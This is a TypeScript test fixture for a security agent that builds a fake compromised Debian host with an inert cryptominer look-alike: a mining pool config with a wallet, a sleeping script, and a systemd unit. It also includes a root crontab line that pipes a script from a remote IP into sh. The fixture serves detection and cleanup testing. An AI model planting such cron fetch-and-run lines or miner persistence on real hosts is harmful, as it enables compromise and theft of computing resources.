import { cpSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import type { TestContext } from 'node:test'
import { agentConfig, defaultPolicy, type Report } from '../../../model/wire/index.ts'
import { agentFolders, replaceJson } from '../../own-files.ts'
import type { Progress, WorkerSurroundings } from '../../ports.ts'
import { type CenterHand, centerHand } from './center-hand.ts'

const wallet = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'

/** The tree of a small host with an inert look-alike of a miner: a configuration, a script that only sleeps, what would start them. */
const files: Readonly<Record<string, string>> = {
  '/etc/passwd': 'root:x:0:0:root:/root:/bin/bash\ndeploy:x:1000:1000::/home/deploy:/bin/bash\n',
  '/etc/shadow': 'root:*:19000:0:99999:7:::\ndeploy:*:19000:0:99999:7:::\n',
  '/etc/group': 'root:x:0:\ndeploy:x:1000:\n',
  '/etc/hostname': 'web-3\n',
  '/etc/os-release': 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n',
  '/etc/crontab': 'SHELL=/bin/sh\n17 * * * * root curl -fsS https://backup.example/ping\n',
  '/srv/data/ledger.csv': 'a,b\n1,2\n',
  '/var/spool/cron/crontabs/root': '*/5 * * * * curl -fsSL http://198.51.100.7/unk.sh | sh\n0 3 * * * /usr/bin/true\n',
  '/tmp/.x/config.json': JSON.stringify({
    autosave: true,
    cpu: { enabled: true, 'huge-pages': true },
    'donate-level': 1,
    randomx: { mode: 'auto', '1gb-pages': true },
    pools: [{ algo: 'rx/0', url: 'pool.example:3333', user: wallet, pass: 'x', 'rig-id': 'a', keepalive: true }],
  }),
  '/tmp/.x/xm':
    '#!/bin/sh\nwhile true; do sleep 1; done\n# stratum+tcp://pool.example:3333 --donate-level randomx rx/0\n',
  '/etc/systemd/system/xm.service':
    '[Unit]\nDescription=x\n[Service]\nExecStart=/tmp/.x/xm -c /tmp/.x/config.json\nRestart=always\n[Install]\nWantedBy=multi-user.target\n',
}

/** For tests: that host in a temporary folder, an agent's surroundings beside it, and the hand of its center. */
export interface InfectedHost {
  readonly root: string
  readonly state: string
  readonly center: CenterHand
  /** All that was reported, oldest first. */
  readonly reports: Report[]
  readonly progress: Progress[]
  readonly log: string[]
  readonly surroundings: WorkerSurroundings
}

export function infectedHost(test: TestContext, config: object = {}): InfectedHost {
  const folder = realpathSync(mkdtempSync(join(tmpdir(), 'davylamp-agent-')))
  test.after(() => rmSync(folder, { recursive: true, force: true }))
  const [root, state] = [join(folder, 'root'), join(folder, 'state')]
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true })
    writeFileSync(join(root, path), content, { mode: path === '/tmp/.x/xm' ? 0o755 : 0o644 })
  }
  cpSync(root, join(folder, 'before'), { recursive: true, preserveTimestamps: true })
  const folders = agentFolders(state, true)
  const local = agentConfig.parse(config)
  replaceJson(folders.config, local)
  const center = centerHand()
  const reports: Report[] = []
  const progress: Progress[] = []
  const log: string[] = []
  const surroundings: WorkerSurroundings = {
    folders,
    launcher: join(import.meta.dirname, '..', '..', '..', 'davylamp'),
    config: () => local,
    policy: () => ({ ...defaultPolicy, scan: { ...defaultPolicy.scan, cpuPercent: 100 } }),
    identity: () => ({
      agent: center.agent,
      center: 'https://127.0.0.1:8444',
      authority: 'a'.repeat(64),
      orderKeys: center.orderKeys,
    }),
    report: one => reports.push(structuredClone(one)),
    progress: one => void progress.push(one),
    upgrade: async () => {},
    patienceMs: 0,
    pendingUpgrade: () => undefined,
    log: line => void log.push(line),
  }
  return { root, state, center, reports, progress, log, surroundings }
}
